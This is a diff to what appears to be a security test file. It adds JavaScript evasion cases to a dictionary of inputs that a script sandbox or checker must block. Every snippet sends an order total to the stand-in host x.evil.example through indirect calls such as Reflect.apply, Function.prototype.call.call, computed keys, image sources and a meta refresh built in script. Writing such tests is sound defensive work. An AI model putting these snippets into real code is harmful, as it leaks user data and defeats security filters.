@@ -272,6 +272,12 @@ EVASIONS = {
     "openUrl by a const key": "const k = 'open' + 'Url'; flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
     "openUrl by a joined key": "const k = ['o', 'pen', 'Url'].join(''); flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
     "src by a joined key": "const i = new Image(); const k = ['s', 'rc'].join(''); i[k] = 'https://x.evil.example/?' + flowUi.get('order.total');",
+    # openUrl handed to the language's own callers.
+    "Reflect.apply of openUrl": "Reflect.apply(flowUi.openUrl, flowUi, ['https://x.evil.example/?' + flowUi.get('order.total')]);",
+    "Function.prototype.call.call of openUrl": "const go = flowUi.openUrl;"
+                                               " Function.prototype.call.call(go, flowUi, 'https://x.evil.example/?' + flowUi.get('order.total'));",
+    "Function.prototype.apply.call of openUrl": "Function.prototype.apply.call([flowUi][0].openUrl, flowUi,"
+                                                " ['https://x.evil.example/?' + flowUi.get('order.total')]);",
     # A <meta http-equiv=refresh> made in script navigates the block as one in the markup does.
     "meta refresh made in script": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                                    " m.content = '0;url=https://x.evil.example/?' + flowUi.get('order.total'); document.head.append(m);",
